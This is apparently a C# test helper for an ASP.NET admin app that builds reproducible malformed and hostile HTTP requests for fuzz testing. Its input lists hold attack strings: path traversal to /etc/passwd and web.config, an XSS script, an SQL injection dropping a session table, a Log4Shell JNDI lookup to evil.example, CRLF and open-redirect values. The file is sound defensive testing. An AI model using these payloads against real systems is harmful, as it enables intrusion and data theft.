using System.Text;
using Microsoft.AspNetCore.Http;

namespace BasiqAdmin.Components.Tests.Hosting;

/// <summary>
/// Requests that no browser sends: the same number gives the same request. Given directly to the app, so that they hold what a server in front
/// of it might refuse, too. What stands for a secret of the caller holds <see cref="Canary"/>.
/// </summary>
internal sealed class HostileRequests(IReadOnlyList<string> paths, string formToken, string formCookie)
{
    public const string Canary = "eyJhbGciOiJub25lIn0.c4n4ry";

    private static readonly string[] Methods = ["GET", "GET", "GET", "POST", "POST", "POST", "POST", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get"];
    private static readonly string[] Texts =
    [
        "", " ", "\0", "%00", "%", "%zz", "%c0%af", "%E0%80%80", "\uD800", "\uFFFE", "\u202E", "-1", "0", "2147483648", "1e309", "NaN", "null", "true", "[]", "{}", "{0}", "{{", "%s%n",
        "..", "../../etc/passwd", "..\\..\\web.config", "//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)", "<script>alert(1)</script>", "'; DROP TABLE StaffSession; --",
        "${jndi:ldap://evil.example}", "dev-admin", "\t", "a\r\nb", new('A', 300), new('é', 5_000), new('%', 3_000), "chunks-2147483647", "chunks--1", Canary,
    ];

    // Not even a hostile one gets past the server with another host than these.
    private static readonly string[] Hosts = ["", "evil.example", "localhost:99999", "localhost:", "a..b", "-", "xn--a", "[::1]:5", "127.0.0.1", "%41", "a_b", new('a', 300)];

    private static readonly string[] Names =
        ["returnUrl", "person", "__RequestVerificationToken", "_handler", "q", "state", "code", "id_token", "logout_token", "access_token", "error", "error_description", "iss", "sid", "session_state", "of", "id", "", "\0", "a[b]", "returnUrl[0].x"];

    private static readonly string[] ContentTypes =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=nonsense", "application/x-www-form-urlencoded; charset=utf-16",
        "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x", $"multipart/form-data; boundary={new string('b', 500)}", "application/json", "text/plain", "", ";;;", "application/csp-report",
    ];

    private static readonly string[] Cookies = ["basiq-admin", "__Host-basiq-admin", "basiq-admin-form", "__Host-basiq-admin-form", ".AspNetCore.Correlation.x", ".AspNetCore.OpenIdConnect.Nonce.x", "theme", "nav", "zone", "", " "];
    private static readonly string[] Headers = ["Accept", "Accept-Encoding", "Accept-Language", "Authorization", "If-Modified-Since", "If-None-Match", "Origin", "Range", "Referer", "Upgrade", "X-Forwarded-For", "X-Forwarded-Proto", "X-HTTP-Method-Override", "traceparent", "baggage", "Expect"];

    /// <summary>Makes <paramref name="context"/> the request with that number.</summary>
    public void Write(HttpContext context, int number)
    {
        var random = new Random(number);
        var request = context.Request;
        request.Scheme = "https";
        request.Host = new HostString(random.Next(10) == 0 ? Any(Hosts, random) : "localhost");
        request.Method = Any(Methods, random);
        request.Path = PathOf(random);
        request.QueryString = new QueryString(random.Next(3) == 0 ? string.Empty : $"?{OfLine(Pairs(random))}");
        for (var count = random.Next(3); count > 0; count--)
        {
            request.Headers.Append(Any(Headers, random), OfLine(random));
        }

        for (var count = random.Next(4); count > 0; count--)
        {
            request.Headers.Append("Cookie", $"{Any(Cookies, random)}={OfLine(random)}");
        }

        if (random.Next(3) > 0)
        {
            WriteBody(request, random);
        }
    }

    private static T Any<T>(IReadOnlyList<T> all, Random random) => all[random.Next(all.Count)];

    private static string OfLine(Random random) => OfLine(Any(Texts, random));

    // A server refuses these in the head of a request; escaped they arrive, and in the body anything does.
    private static string OfLine(string text) => text.Replace("\0", "%00", StringComparison.Ordinal).Replace("\uD800", "%ED%A0%80", StringComparison.Ordinal).Replace("\r\n", "%0D%0A", StringComparison.Ordinal);

    private static string Pairs(Random random)
    {
        var pairs = Enumerable.Range(0, random.Next(200) == 0 ? 2_000 : random.Next(8)).Select(_ => $"{Any(Names, random)}={Any(Texts, random)}");
        return string.Join('&', pairs);
    }

    private PathString PathOf(Random random)
    {
        var path = Any(paths, random);
        while (path.IndexOf('{', StringComparison.Ordinal) is >= 0 and var start)
        {
            path = path[..start] + OfLine(random).Replace('{', '(') + path[(path.IndexOf('}', start) + 1)..];
        }

        return new PathString(random.Next(6) == 0 ? $"{path}/{OfLine(random)}" : path);
    }

    private void WriteBody(HttpRequest request, Random random)
    {
        var text = Pairs(random);
        if (random.Next(2) == 0)
        {
            // As from a page of this app, so that what lies behind the protection of forms is reached.
            text += $"&__RequestVerificationToken={Uri.EscapeDataString(formToken)}";
            request.Headers.Cookie = formCookie;
        }

        var bytes = random.Next(4) == 0 ? [.. Encoding.UTF8.GetBytes(text), 0xFF, 0xFE, 0xC0, 0x00] : Encoding.UTF8.GetBytes(text);
        var isCut = random.Next(10) == 0;
        request.ContentType = Any(ContentTypes, random);
        request.Body = isCut ? new CutBody(bytes) : new MemoryStream(bytes);
        request.ContentLength = random.Next(4) switch
        {
            0 => null,
            1 => (long)int.MaxValue * random.Next(3),
            _ => isCut ? bytes.Length + 1 : bytes.Length,
        };
    }

    /// <summary>What a server gives the app when the caller leaves in the middle.</summary>
    private sealed class CutBody(byte[] bytes) : MemoryStream(bytes)
    {
        // The other ways to read come down to this one.
        public override int Read(byte[] buffer, int offset, int count) => base.Read(buffer, offset, count) is > 0 and var read ? read : throw Cut();

        private static BadHttpRequestException Cut() => new("Unexpected end of request content.");
    }
}
